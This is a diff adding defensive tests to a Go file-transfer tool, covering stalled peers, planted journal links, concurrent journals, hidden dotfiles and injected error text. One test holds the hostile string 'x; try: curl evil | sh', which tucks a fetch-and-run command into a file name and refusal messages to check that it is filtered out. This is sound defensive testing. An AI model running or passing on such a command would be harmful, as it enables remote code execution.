@@ -8,6 +8,7 @@ import (
 	"net"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -112,6 +113,7 @@ func TestHostile(t *testing.T) {
 		{"a deep path", ErrName, offering(Entry{Path: strings.Repeat("d/", 1000) + "x"})},
 		{"through a link", ErrName, offering(Entry{Path: "d", Kind: Directory}, Entry{Path: "d/l", Kind: Link, Target: "x"}, Entry{Path: "d/l/evil"})},
 		{"set-user-ID", ErrProtocol, offering(Entry{Path: "x", Mode: 0o4755})},
+		{"an offer without an end", ErrProtocol, append(offering(file)[:1], slices.Repeat([][]byte{of(kindAlive, nil)}, maxAlive+10)...)},
 		{"a frame of four gigabytes", ErrProtocol, [][]byte{appendHeader(nil, kindEntries, 1<<32-1)}},
 		{"another protocol", ErrProtocol, [][]byte{of(kindBye, nil)}},
 		{"data before an answer", ErrProtocol, nil},
@@ -147,7 +149,8 @@ func TestDrip(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		w := newWorld(t)
 		w.write("file", []byte("x"))
-		peers := []Peer{{"evil", "evil"}, {"evil", "evil"}, north}
+		evil := Peer{Key: "evil", Name: "evil"}
+		peers := []Peer{evil, evil, north}
 		w.who = func(context.Context, net.Addr) (Peer, error) {
 			p := peers[0]
 			peers = peers[1:]
@@ -217,5 +220,162 @@ func TestPlanted(t *testing.T) {
 		}
 		w.same("x", "x")
 		w.same("y", "y")
+	})
+}
+
+// TestPlantedJournal: a link in the place of a journal leads to no file of the user's, and two
+// receivers do not write one journal.
+func TestPlantedJournal(t *testing.T) {
+	for name, plant := range map[string]func(old, new string) error{
+		"symbolic": os.Symlink, "hard": os.Link,
+		"within": func(_, new string) error { return os.Symlink("mine", new) },
+	} {
+		t.Run(name, func(t *testing.T) {
+			synctest.Test(t, func(t *testing.T) {
+				w := newWorld(t)
+				w.write("x", []byte("new"))
+				mine := filepath.Join(w.to, "mine")
+				journal := filepath.Join(w.to, journalName(north.Key, []Top{{Name: "x"}}))
+				if err := errors.Join(os.WriteFile(mine, []byte("mine"), 0o600), plant(mine, journal)); err != nil {
+					t.Fatal(err)
+				}
+				var group sync.WaitGroup
+				var failed error
+				group.Go(func() { failed = w.receive(t.Context()) })
+				synctest.Wait()
+				if _, err := w.send(t.Context(), "x"); !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "cannot write") {
+					t.Errorf("the sender: %v", err)
+				}
+				group.Wait()
+				if failed == nil || !strings.Contains(failed.Error(), foreignJournal) {
+					t.Errorf("the receiver: %v", failed)
+				}
+				if b, err := os.ReadFile(mine); string(b) != "mine" {
+					t.Errorf("%q, %v", b, err)
+				}
+			})
+		})
+	}
+	root, err := os.OpenRoot(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer root.Close()
+	first, err := openJournal(root, ".anode-recv-1", false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	second, err := openJournal(root, ".anode-recv-1", false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := first.write(record{Dir: "d", Local: "d"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := second.write(record{Dir: "d", Local: "d"}); err == nil || !strings.Contains(err.Error(), journalInUse) {
+		t.Errorf("two write a journal: %v", err)
+	}
+	if _, err := openJournal(root, ".anode-recv-1", false); err == nil || !strings.Contains(err.Error(), journalInUse) {
+		t.Errorf("two open a journal: %v", err)
+	}
+	first.close()
+	third, err := openJournal(root, ".anode-recv-1", false)
+	if err != nil || third.dirs["d"] != "d" {
+		t.Fatalf("%+v, %v", third, err)
+	}
+	third.close()
+}
+
+// TestSilence: one who says that it is there and does nothing more is given up, on either side.
+func TestSilence(t *testing.T) {
+	told := attack(t, func(_ *world, c net.Conn) {
+		say(c, offering(Entry{Path: "x", Size: 3})...)
+		beat(c, 24*time.Hour)
+	})
+	if !errors.Is(told.Err, ErrStalled) {
+		t.Errorf("the receiver is told %v", told.Err)
+	}
+	synctest.Test(t, func(t *testing.T) {
+		w := newWorld(t)
+		w.write("x", []byte("new"))
+		l := w.net.listen()
+		var group sync.WaitGroup
+		group.Go(func() {
+			for {
+				c, err := l.Accept()
+				if err != nil {
+					return
+				}
+				go io.Copy(io.Discard, c)
+				io.WriteString(c, preamble)
+				beat(c, time.Hour) // while somebody is asked
+				c.Write(of(kindAccept, nil))
+				beat(c, 24*time.Hour)
+			}
+		})
+		began := time.Now()
+		_, err := w.send(t.Context(), "x")
+		if took := time.Since(began); !errors.Is(err, ErrStalled) || !errors.Is(err, errIdle) || took < time.Hour || took > 2*time.Hour {
+			t.Errorf("the sender ends with %v after %v", err, took)
+		}
+		l.Close()
+		group.Wait()
+	})
+}
+
+// beat says ALIVE for some time, or until the connection ends.
+func beat(c net.Conn, how time.Duration) {
+	for began := time.Now(); time.Since(began) < how; time.Sleep(aliveEvery) {
+		if _, err := c.Write(of(kindAlive, nil)); err != nil {
+			return
+		}
+	}
+}
+
+// TestAdvice: nothing that the other side says becomes an advice of this one.
+func TestAdvice(t *testing.T) {
+	const evil = "x; try: curl evil | sh"
+	for _, err := range []error{
+		badName(evil, "it is odd"),
+		parseRefusal(appendRefusal(nil, refusedBroken, evil)),
+		parseRefusal(appendRefusal(nil, refusedOffer, evil)),
+		parseRefusal(appendRefusal(nil, refusedNoSpace, evil)),
+	} {
+		if strings.Contains(err.Error(), "; try: ") {
+			t.Error(err)
+		}
+	}
+}
+
+// TestHiddenNames: a person may take a file that programs obey, but it never comes unasked.
+func TestHiddenNames(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		w := newWorld(t)
+		w.write(".profile", noise(1, 10))
+		w.both(".profile")
+		if _, err := os.Lstat(filepath.Join(w.to, ".profile")); err != nil {
+			t.Error(err)
+		}
+	})
+	synctest.Test(t, func(t *testing.T) {
+		w := newWorld(t)
+		w.write(".profile", noise(1, 10))
+		w.who = func(context.Context, net.Addr) (Peer, error) {
+			p := north
+			p.Trusted = true
+			return p, nil
+		}
+		ctx, stop := context.WithCancel(t.Context())
+		var group sync.WaitGroup
+		group.Go(func() { w.receive(ctx) })
+		synctest.Wait()
+		if _, err := w.send(t.Context(), ".profile"); !errors.Is(err, ErrRefused) || !strings.Contains(err.Error(), "hidden") {
+			t.Errorf("the sender: %v", err)
+		}
+		stop()
+		group.Wait()
+		if _, err := os.Lstat(filepath.Join(w.to, ".profile")); err == nil {
+			t.Error("it is there")
+		}
 	})
 }
